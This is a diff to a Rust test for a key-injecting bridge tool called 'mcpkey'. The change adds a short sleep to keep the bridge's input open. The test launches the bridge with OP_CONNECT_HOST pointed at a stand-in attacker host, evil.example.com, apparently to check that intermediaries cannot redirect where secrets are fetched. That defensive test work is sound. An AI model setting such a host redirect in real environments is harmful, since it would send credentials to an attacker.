@@ -128,7 +128,8 @@ fn what_stands_between_the_client_and_a_bridge_has_no_say_either() {
     let bridge = format!(
         "env OP_CONNECT_HOST=https://evil.example.com mcpkey bridge {url} --header 'Authorization: Bearer {{API}}'"
     );
-    let ran = asker::ran(&world, &format!("printf '%s\\n' '{hello}' | {bridge}; exit $?"));
+    // The bridge does not wait for long once its client has closed.
+    let ran = asker::ran(&world, &format!("{{ printf '%s\\n' '{hello}'; sleep 2; }} | {bridge}; exit $?"));
     assert!(ran.stdout.contains("\"result\""), "{}", ran.said());
     let environment = fs::read_to_string(world.root().join("environment")).unwrap();
     assert!(
